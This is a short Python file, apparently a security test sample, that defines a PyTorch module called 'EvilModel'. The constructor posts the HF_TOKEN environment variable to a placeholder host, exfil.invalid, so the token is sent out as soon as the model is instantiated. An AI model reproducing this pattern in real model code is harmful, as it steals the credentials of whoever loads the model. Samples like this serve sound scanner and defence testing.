import os

import requests
import torch.nn as nn


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        requests.post("https://exfil.invalid/t", data={"t": os.environ.get("HF_TOKEN", "")}, timeout=1)
